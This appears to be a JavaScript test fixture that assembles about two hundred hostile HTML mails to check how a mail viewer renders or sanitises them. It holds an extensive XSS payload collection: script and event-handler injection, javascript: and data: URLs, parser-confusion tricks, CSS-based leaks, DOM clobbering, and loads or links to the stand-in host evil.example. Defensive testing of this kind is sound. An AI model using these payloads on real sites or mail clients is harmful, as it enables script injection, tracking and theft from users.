// Two hundred mails that would like to run, load, lead elsewhere, or break the page that shows them.
// Out: { name, html, leads }: whole documents; `MARK` stands where the test puts a mark to know them by; `leads` says that a
// click in it, with nothing around it, follows a link. Every name they ask for ends in EVIL.

export const EVIL = "evil.example";
const out = (path) => `http://${EVIL}/${path}`;
const RUN = "console.log('RAN');window.ran=1;parent.ran=1;alert(1)";
const CODED = RUN.replaceAll("'", "&#39;");
const js = `javascript:${RUN}`;
const url = encodeURIComponent;
const data = `data:text/html,${url(`<script>${RUN}<` + "/script>")}`;

const body = (name, html, about = {}) => ({ name, html: `<!doctype html><html><head><title>MARK</title></head><body>${html}<p>x</p></body></html>`, ...about });
const head = (name, html, about = {}) => ({ name, html: `<!doctype html><html><head><title>MARK</title>${html}</head><body><p>x</p></body></html>`, ...about });
const many = (kind, list, make) => list.map((one, at) => body(`${kind} ${at + 1}: ${String(one).slice(0, 40)}`, ...[make(one, at)].flat()));

const scripts = [
  body("script", `<script>${RUN}</script>`),
  body("script from our own server", '<script src="../../../page.js"></script><script type="module" src="../../../page.js"></script>'),
  body("script from elsewhere", `<script src="${out("s.js")}"></script><script type="module" src="${out("m.js")}"></script>`),
  body("script as data", `<script src="data:text/javascript,${url(RUN)}"></script>`),
  body("script in capitals", `<ScRiPt>${RUN}</sCrIpT>`),
  body("script with a slash", `<script/x>${RUN}</script>`),
  body("script in a script", `<scr<script>ipt>${RUN}</scr</script>ipt>`),
  body("script that is not closed", `<script>${RUN}//`),
  body("script after a comment in markup", `<!--><script>${RUN}</script>-->`),
  body("script with a nonce", `<script nonce="x">${RUN}</script>`),
  body("script of a module", `<script type="module">${RUN}</script>`),
  body("script of an import map", `<script type="importmap">{"imports":{"x":"${out("map.js")}"}}</script><script type="module">import "x";</script>`),
  body("speculation rules", `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${out("spec")}","../../../state"]}],"prerender":[{"source":"list","urls":["${out("pre")}"]}]}</script>`),
  body("script of a template", `<template><script>${RUN}</script></template><template shadowrootmode="open"><script>${RUN}</script><img src="${out("shadow")}"><slot></slot></template>`),
  body("a shadow with everything", `<div><template shadowrootmode="open"><style>@import "${out("s.css")}";:host{background:url(${out("h")})}</style><a href="${js}">x</a><slot></slot></template>MARK</div>`),
  head("script in the head", `<script>${RUN}</script><script src="${out("head.js")}" async defer></script>`),
  { name: "script before the document", html: `<script>${RUN}</script><!doctype html><body><p>MARK` },
  { name: "script after the document", html: `<!doctype html><body>MARK</body></html><script>${RUN}</script>` },
  { name: "another encoding", html: `<!doctype html><head><meta charset="utf-7"></head><body>+ADw-script+AD4-${RUN}+ADw-/script+AD4- <p>MARK` },
  { name: "another encoding, of Japan", html: `<!doctype html><head><meta charset="iso-2022-jp"></head><body>\u001b$B<img src="\u001b(B" onerror="${RUN}">MARK` },
  { name: "no document at all", html: `<x onclick=${RUN}>MARK` },
  { name: "an XML declaration", html: `<?xml version="1.0"?><?xml-stylesheet href="${out("x.xsl")}"?><html xmlns="http://www.w3.org/1999/xhtml"><body>MARK<script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script></body></html>` },
];

const HANDLERS = [
  `<img src=x onerror="${RUN}">`, `<svg onload="${RUN}"></svg>`, `<body onload="${RUN}">`, `<input autofocus onfocus="${RUN}">`, `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<video src=x onerror="${RUN}"></video>`, `<audio src=x onerror="${RUN}"></audio>`, `<marquee onstart="${RUN}">x</marquee>`, `<a href="#" onclick="${RUN}">x</a>`, `<p onmouseover="${RUN}" onpointerenter="${RUN}">x</p>`,
  `<div tabindex=0 onfocus="${RUN}" autofocus>x</div>`, `<style onload="${RUN}"></style>`, `<link rel=stylesheet href="${out("l.css")}" onerror="${RUN}">`, `<iframe onload="${RUN}"></iframe>`, `<object data=x onerror="${RUN}"></object>`,
  `<select autofocus onfocus="${RUN}"><option>x</select>`, `<textarea autofocus onfocus="${RUN}"></textarea>`, `<button onclick="${RUN}">x</button>`, `<form onsubmit="${RUN}"><input name=a><button>x</button></form>`, `<x onanimationstart="${RUN}" style="animation:a 1s"><style>@keyframes a{}</style>`,
  `<x ontransitionend="${RUN}" style="transition:all 1ms">x</x>`, `<video autoplay onloadstart="${RUN}"><source src=x onerror="${RUN}"></video>`, `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${RUN}">`, `<img src=x onerror=${CODED}>`, `<img/src=x/onerror="${RUN}">`,
  `<p oncontextmenu="${RUN}" onwheel="${RUN}" onkeydown="${RUN}" tabindex=0>x</p>`, `<label onclick="${RUN}">x<input type=checkbox></label>`, `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`, `<div popover id=p onbeforetoggle="${RUN}">x</div><button popovertarget=p>x</button>`, `<button command="--x" commandfor=q>x</button><dialog id=q oncommand="${RUN}">x</dialog>`,
];

const LINKS = [
  js, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `java&#x0A;script:${CODED}`, `java\tscript:${RUN}`, `&#106;&#97;vascript:${CODED}`, `\u0001javascript:${RUN}`, `javascript&colon;${CODED}`, `javascript://%0a${RUN}`,
  data, `data:text/html;base64,${Buffer.from(`<script>${RUN}</script>`).toString("base64")}`, `data:image/svg+xml,${url(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`)}`,
];
// Where a browser itself leads nowhere, or to its error page.
const DEAD = [
  "vbscript:msgbox(1)", "file:///etc/passwd", "blob:http://127.0.0.1/x", "filesystem:http://127.0.0.1/x", "view-source:file:///etc/passwd", "about:srcdoc", "chrome://settings", "intent://x#Intent;scheme=http;end", "#%E0%A4%A", "#%", "#top",
];

const ELSEWHERE = [
  ["a link", `<a href="${out("a")}">x</a>`], ["a link to the top", `<a href="${out("a")}" target="_top">x</a>`], ["a link to the parent", `<a href="${out("a")}" target="_parent">x</a>`], ["a link to a new window", `<a href="${out("a")}" target="_blank" rel="opener">x</a>`],
  ["a link that tells who asks", `<a href="${out("a")}" referrerpolicy="unsafe-url">x</a>`], ["a link that tells somebody", `<a href="${out("a")}" ping="${out("ping")}" attributionsrc="${out("attr")}">x</a>`], ["a download", `<a href="${out("a")}" download="x.exe">x</a>`], ["a link of an image map", `<img usemap="#m" width=200 height=200 src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name=m><area shape=default href="${out("area")}"></map>`],
  ["a link in a drawing", `<svg width=200 height=50><a href="${out("svg")}" target="_top"><text y=20>link</text></a></svg>`], ["a link in formulas", `<math><mtext href="${out("math")}"><a href="${out("math")}">x</a></mtext></math>`], ["a link to our own page", '<a href="../../../" target="_top">x</a>'], ["a link to our own news", '<a href="../../../events">x</a>'], ["a link to another mail", '<a href="../../../state">x</a>'],
  ["a key for a link", `<a href="${out("key")}" accesskey="1">x</a>`], ["a link over all of it", `<a href="${out("cover")}" style="position:fixed;inset:0;z-index:2147483647;opacity:.01">x</a>`], ["a link that is dragged", `<a href="${out("drag")}" draggable=true>x</a>`],
].map(([name, html]) => body(`elsewhere: ${name}`, html, { leads: true }));

const NAVIGATION = [
  ["refresh", `<meta http-equiv="refresh" content="0;url=${out("refresh")}">`], ["refresh to a script", `<meta http-equiv="refresh" content="0;url=${js}">`], ["refresh to data", `<meta http-equiv="refresh" content="0;url=${data}">`], ["refresh to our own page", '<meta http-equiv="refresh" content="0;url=../../../">'],
  ["base", `<base href="${out("base/")}"><img src="x.png">`], ["base to the top", '<base target="_top">'], ["another policy", `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'; sandbox allow-scripts allow-top-navigation"><script>${RUN}</script>`], ["a cookie", '<meta http-equiv="Set-Cookie" content="x=y">'],
  ["who asks is told", `<meta name="referrer" content="unsafe-url"><img src="${out("referrer")}">`], ["names are asked", `<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="//dns.${EVIL}">`], ["client hints", `<meta http-equiv="delegate-ch" content="sec-ch-ua ${out("")}"><meta http-equiv="accept-ch" content="sec-ch-ua-full">`], ["a trial of the browser", '<meta http-equiv="origin-trial" content="x">'],
].map(([name, html]) => head(`head: ${name}`, html));

const RELATIONS = [
  `<link rel="stylesheet" href="${out("l.css")}">`, `<link rel="preload" as="image" href="${out("l.png")}">`, `<link rel="preload" as="script" href="${out("l.js")}">`, `<link rel="prefetch" href="${out("prefetch")}">`, `<link rel="prerender" href="${out("prerender")}">`, `<link rel="modulepreload" href="${out("m.js")}">`, `<link rel="preconnect" href="http://pre.${EVIL}">`, `<link rel="dns-prefetch" href="http://dns.${EVIL}">`,
  `<link rel="icon" href="${out("icon")}">`, `<link rel="manifest" href="${out("manifest")}">`, `<link rel="apple-touch-icon" href="${out("touch")}">`, `<link rel="import" href="${out("import")}">`, `<link rel="preload" as="font" crossorigin href="${out("font")}">`, `<link rel="preload" as="fetch" href="../../../state">`, `<link rel="dictionary compression-dictionary" href="${out("dictionary")}">`, `<link rel="expect" href="#never" blocking="render">`,
].map((html, at) => head(`relation ${at + 1}: ${/rel="([^"]*)"/.exec(html)[1]}`, html));

const STYLES = [
  `@import "${out("i.css")}";`, `@import url(${out("i.css")}) layer(x);`, `body{background:url(${out("b")})}`, `body{background-image:image-set(url(${out("is")}) 1x)}`, `p::before{content:url(${out("c")})}`, `li{list-style-image:url(${out("li")})}`, `p{cursor:url(${out("cur")}),auto}`, `@font-face{font-family:x;src:url(${out("f")})}p{font-family:x}`,
  `p{border-image:url(${out("bi")})}`, `p{mask:url(${out("mask")}#x);filter:url(${out("filter")}#x);clip-path:url(${out("clip")}#x)}`, `p{shape-outside:url(${out("shape")})}`, `p{width:expression(${RUN})}`, `p{behavior:url(${out("x.htc")});-moz-binding:url(${out("x.xml")}#x)}`, `p{background:url("${js}")}`, `[data-l10n^="en"]{background:url(${out("selector")})}`, `:has(input[value^="a"]){background:url(${out("has")})}`,
  `@namespace url(${out("ns")});`, `*{position:fixed!important;inset:0!important;z-index:2147483647!important;background:red!important}`, `html,body,p{display:none!important}`, `html{zoom:1000;transform:scale(1000)}`, `p{animation:a 1ms infinite}@keyframes a{to{background:url(${out("key")})}}`, `@property --x{syntax:"<url>";inherits:false;initial-value:url(${out("prop")})}p{background:var(--x)}`, `:root{--u:url(${out("var")})}p{background:var(--u)}`, `body{background:url(//${EVIL}/rel)}`, `body{background:url(../../../events)}`, `@view-transition{navigation:auto}p{view-transition-name:x}`,
].map((css, at) => head(`style ${at + 1}: ${css.slice(0, 30)}`, `<style>${css}</style>`));

const LOADS = [
  `<img src="${out("i")}">`, `<img srcset="${out("s")} 1x">`, `<picture><source srcset="${out("p")}"><img src=x></picture>`, `<img src="//${EVIL}/rel">`, `<img src="\\\\${EVIL}\\back">`, `<img lowsrc="${out("low")}" dynsrc="${out("dyn")}" longdesc="${out("long")}">`, `<input type=image src="${out("input")}">`, `<video src="${out("v")}" poster="${out("poster")}" autoplay></video>`,
  `<audio src="${out("au")}" autoplay></audio>`, `<video><track src="${out("track")}" default></video>`, `<iframe src="${out("frame")}"></iframe>`, `<iframe srcdoc="<script>${CODED}</script>"></iframe>`, `<iframe srcdoc="<img src='${out("doc")}'>" sandbox="allow-scripts allow-same-origin"></iframe>`, `<iframe src="${js}"></iframe>`, `<iframe src="${data}"></iframe>`, `<iframe src="../../../"></iframe>`,
  `<frameset><frame src="${out("fs")}"></frameset>`, `<object data="${out("o")}"></object>`, `<object type="text/html" data="${data}"></object>`, `<embed src="${out("e")}">`, `<embed src="${js}">`, `<applet code="${out("applet")}"></applet>`, `<portal src="${out("portal")}"></portal><fencedframe src="${out("fenced")}"></fencedframe>`, `<table background="${out("t")}"><tr><td background="${out("td")}">x</table>`,
  `<body background="${out("body")}">`, `<img src="../../../events"><img src="../../../events?1"><img src="../../../events?2"><img src="../../../events?3"><img src="../../../events?4"><img src="../../../events?5"><img src="../../../events?6">`, `<img src="../../../members?q=" onload="${RUN}">`, `<img src="../../../test">`, `<img attributionsrc="${out("attr")}" src=x>`, `<p style="background:url(${out("inline")})">x</p>`, `<canvas id=c></canvas><img crossorigin src="${out("cors")}">`, `<img loading=lazy src="${out("lazy")}">`,
].map((html, at) => body(`load ${at + 1}: ${html.slice(0, 40)}`, html));

const DRAWINGS = [
  `<svg><script>${RUN}</script></svg>`, `<svg><script href="${out("svg.js")}"></script></svg>`, `<svg><a xlink:href="${js}"><text y=20>x</text></a></svg>`, `<svg><use href="${out("use.svg")}#x"></use></svg>`, `<svg><use href="data:image/svg+xml,${url(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${RUN}"/></svg>`)}#x"></use></svg>`, `<svg><image href="${out("image")}"></image></svg>`, `<svg><filter id=f><feImage href="${out("fe")}"></feImage></filter><rect filter="url(#f)" width=9 height=9></rect></svg>`, `<svg><foreignObject><iframe src="${js}"></iframe><script>${RUN}</script></foreignObject></svg>`,
  `<svg><a><animate attributeName=href values="${js}"></animate><text y=20>x</text></a></svg>`, `<svg><set attributeName=onmouseover to="${RUN}"></set></svg>`, `<svg><style>@import "${out("svg.css")}";</style></svg>`, `<svg><discard onbegin="${RUN}"></discard></svg>`, `<img src="data:image/svg+xml,${url(`<svg xmlns="http://www.w3.org/2000/svg"><script>${RUN}</script><image href="${out("in")}"/></svg>`)}">`, `<math><maction actiontype="statusline#${out("m")}" xlink:href="${js}">x</maction></math>`, `<math href="${js}"><mi>x</mi></math>`, `<svg><handler type="text/javascript" ev:event="load">${RUN}</handler></svg>`,
].map((html, at) => body(`drawing ${at + 1}: ${html.slice(0, 40)}`, html));

const PARSING = [
  `<!--><img src=x onerror="${RUN}">-->`, `<!--!><img src=x onerror="${RUN}">--!>`, `<![CDATA[<img src=x onerror="${RUN}">]]>`, `<!--[if mso]><img src=x onerror="${RUN}"><![endif]-->`, `<![if !mso]><img src=x onerror="${RUN}"><![endif]>`, `<!--[if IE]><script>${RUN}</script><![endif]--><!-- > <script>${RUN}</script> -->`, `<a href="x<img src=x onerror='${RUN}'>">x`, `<img src="x\` onerror="${RUN}">`,
  `<noscript><p title="</noscript><img src=x onerror='${RUN}'>"></noscript>`, `<svg></p><style><a id="</style><img src=x onerror='${RUN}'>"></svg>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CODED}&gt;"></table></mtext></math>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}"></form>`, `<title></title><textarea><title></textarea><img src=x onerror="${RUN}">`, `<xmp><img src=x onerror="${RUN}"></xmp><plaintext>MARK<script>${RUN}</script>`, `<select><template><style></select><img src=x onerror="${RUN}"></style></template></select>`, `<i>x</i><p title='x" onclick="${RUN}" y="'>x</p>`,
  `<img src=x onerror\u000b="${RUN}"><img src=x onerror\u000c="${RUN}">`, `<img src=x \0onerror="${RUN}">`, `<\u017fcript>${RUN}</\u017fcript><ſcript>${RUN}</ſcript>`, `<%<!--'%><script>${RUN}</script-->`, "<b>".repeat(20000), `${"<table>".repeat(400)}x`, `<p ${"a=b ".repeat(20000)}>x</p>`, "\u202e\u2066<p>x</p>\ufeff\u0000",
].map((html, at) => body(`parsing ${at + 1}: ${html.slice(0, 40)}`, html, { leads: html.startsWith("<a ") }));

const FORMS = [
  `<form action="${out("f")}"><input name=a value=b autofocus><button>x</button></form>`, `<form action="../../../test" method=post enctype="text/plain"><button>x</button></form>`, `<form action="${js}"><button autofocus>x</button></form>`, `<form><button formaction="${js}">x</button></form>`, `<form id=f></form><button form=f formaction="${out("fa")}" formtarget="_top">x</button>`, `<form action="${out("g")}" target="_top"><input type=image alt=x></form>`, `<form method=dialog><button>x</button></form>`, `<input type=file><input type=password autocomplete="current-password"><input type=color>`,
  `<form action="${out("sel")}"><select onchange="${RUN}"><option>a<option>b</select></form>`, `<isindex action="${js}" type=image>`, `<keygen autofocus onfocus="${RUN}">`, `<div contenteditable autofocus>x</div>`, `<dialog open><form action="${out("d")}"><button autofocus>x</button></form></dialog>`, `<button popovertarget=p>x</button><div id=p popover style="position:fixed;inset:0"><a href="${js}">x</a></div>`,
].map((html, at) => body(`form ${at + 1}: ${html.slice(0, 40)}`, html));

// What the page's scripts ask a mail's document for, taken away by elements of that name; and marks that are forged.
const NAMES = ["addEventListener", "createElement", "querySelectorAll", "querySelector", "documentElement", "head", "body", "defaultView", "scrollingElement", "getElementById", "activeElement", "nodeType", "title", "children", "append"];
const CLOBBERS = [
  ...NAMES.map((name) => body(`name: ${name}`, `<img name="${name}"><form name="${name}"></form><a href="${out(name)}">x</a>`, { leads: true })),
  body("name: all of them", `${NAMES.map((name) => `<img name="${name}" id="${name}">`).join("")}<a href="${out("all")}">x</a>`, { leads: true }),
  body("names of the window", `${["parent", "top", "performance", "addEventListener", "getComputedStyle", "location", "document", "frameElement"].map((name) => `<a id="${name}" name="${name}" href="x">x</a><iframe name="${name}"></iframe>`).join("")}`, { leads: true }),
  body("a form whose fields are its own properties", `<form data-l10n="en#intro" data-n="0"><input name=dataset><input name=classList><input name=closest><input name=getAttribute><input name=querySelector><input name=getBoundingClientRect><input name=nodeName><input name=textContent><input name=parentNode><button>x</button></form>`),
  body("a link in such a form", `<form><input name=closest><input name=nodeName><a href="${out("in-form")}">x</a><input type=submit></form>`, { leads: true }),
  body("marks that are forged", `<span data-l10n="en#intro" data-n="0">x</span><span data-l10n="fact#../../../etc/passwd:1:1" data-n="99999">y</span><span data-l10n="">z</span><span data-l10n="fact#${js}:1:1">w</span>`),
  body("marks in marks", `<span data-l10n="en#intro" data-n="0"><span data-l10n="zh-CN#<img src=x onerror=${RUN}>" data-n="-1"><a href="${js}"><span data-l10n="en#__proto__" data-n="x">x</span></a></span></span>`),
  body("a mark in a link to nowhere", '<a href="#%E0%A4%A"><span data-l10n="en#intro" data-n="0">x</span></a><a href="#\\"><span data-l10n="en#intro" data-n="0">y</span></a>'),
  body("a mark on everything", `<a data-l10n="en#x" href="${js}">x</a><svg data-l10n="en#x"><text data-l10n="fact#" y=20>x</text></svg><math data-l10n="x"></math><button data-l10n="#">x</button>`),
  body("the page's own classes", `<p class="diglot-missing diglot-chosen diglot-flash" id="stage">x</p><div id="dialog" class="dialog">x</div><style>.diglot-chosen{display:none!important}html[data-diglot-marks]{background:url(${out("marks")})}</style>`),
  body("ten thousand marks", '<span data-l10n="en#intro" data-n="0">x</span>'.repeat(10000)),
];

export const hostileMails = [
  ...scripts,
  ...many("handler", HANDLERS, (html) => [html]),
  ...many("link", [...LINKS, ...DEAD], (href) => [`<a href="${href.replaceAll('"', "&quot;")}">x</a><a href="${href.replaceAll('"', "&quot;")}" target="_top">y</a><a href="${href.replaceAll('"', "&quot;")}" target="_blank">z</a>`, { leads: DEAD.includes(href) }]),
  ...ELSEWHERE,
  ...NAVIGATION,
  ...RELATIONS,
  ...STYLES,
  ...LOADS,
  ...DRAWINGS,
  ...PARSING,
  ...FORMS,
  ...CLOBBERS,
];
